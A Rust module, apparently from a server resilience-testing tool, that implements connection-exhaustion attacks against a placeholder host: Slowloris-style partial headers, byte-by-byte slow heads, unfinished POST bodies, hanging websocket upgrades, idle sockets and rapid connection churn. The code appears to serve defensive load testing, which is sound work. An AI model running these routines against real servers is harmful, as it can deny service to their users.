//! Connections that are opened and not used.

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::{AttackTarget, pause};

/// How many connections one attack holds.
const MANY: usize = 100;

/// Opens connections that send only this, and holds them. When the server closes one, another one is opened.
async fn hold(target: &AttackTarget, text: &str) {
    let mut held: Vec<TcpStream> = Vec::new();
    while !target.is_over() {
        held.retain(is_open);
        if held.len() < MANY
            && let Some(stream) = target.tried(open(target, text).await).await
        {
            held.push(stream);
        }
        pause(5).await;
    }
}

async fn open(target: &AttackTarget, text: &str) -> Result<TcpStream> {
    let mut stream = target.connect().await?;
    stream.write_all(text.as_bytes()).await?;
    Ok(stream)
}

fn is_open(stream: &TcpStream) -> bool {
    let mut byte = [0; 512];
    match stream.try_read(&mut byte) {
        Ok(length) => length > 0,
        Err(error) => error.kind() == std::io::ErrorKind::WouldBlock,
    }
}

pub(super) async fn heads(target: AttackTarget) {
    hold(&target, "GET / HTTP/1.1\r\nHost: cards.example\r\nX-Slow: ").await;
}

pub(super) async fn bodies(target: AttackTarget) {
    let head = "POST /api/guest HTTP/1.1\r\nHost: cards.example\r\nContent-Length: 8000\r\n\r\n{\"name\":";
    hold(&target, head).await;
}

pub(super) async fn upgrades(target: AttackTarget) {
    let head =
        "GET /api/socket HTTP/1.1\r\nHost: cards.example\r\nConnection: upgrade\r\nUpgrade: websocket\r\n";
    hold(&target, head).await;
}

pub(super) async fn idle(target: AttackTarget) {
    hold(&target, "").await;
}

/// Sends requests for files and never reads them.
pub(super) async fn unread_files(target: AttackTarget) {
    hold(&target, &"GET / HTTP/1.1\r\nHost: cards.example\r\n\r\n".repeat(20)).await;
}

/// Sends the head of a request byte by byte.
pub(super) async fn slow_heads(target: AttackTarget) {
    let head = "GET / HTTP/1.1\r\nHost: cards.example\r\nX-Slow: ";
    let mut held: Vec<(TcpStream, usize)> = Vec::new();
    while !target.is_over() {
        held.retain(|(stream, _)| is_open(stream));
        for (stream, sent) in &mut held {
            let byte = head.as_bytes().get(*sent).copied().unwrap_or(b'x');
            let _ = stream.try_write(&[byte]);
            *sent += 1;
        }
        if held.len() < MANY
            && let Some(stream) = target.tried(target.connect().await).await
        {
            held.push((stream, 0));
        }
        pause(100).await;
    }
}

/// Opens connections and closes them after one request.
pub(super) async fn churn(target: AttackTarget) {
    while !target.is_over() {
        let answered = async {
            let mut stream = open(&target, "GET /none HTTP/1.0\r\n\r\n").await?;
            let mut answer = [0; 12];
            stream.read_exact(&mut answer).await?;
            anyhow::ensure!(&answer[9..] != b"429", "refused");
            Ok(())
        };
        target.tried(answered.await).await;
        pause(1).await;
    }
}
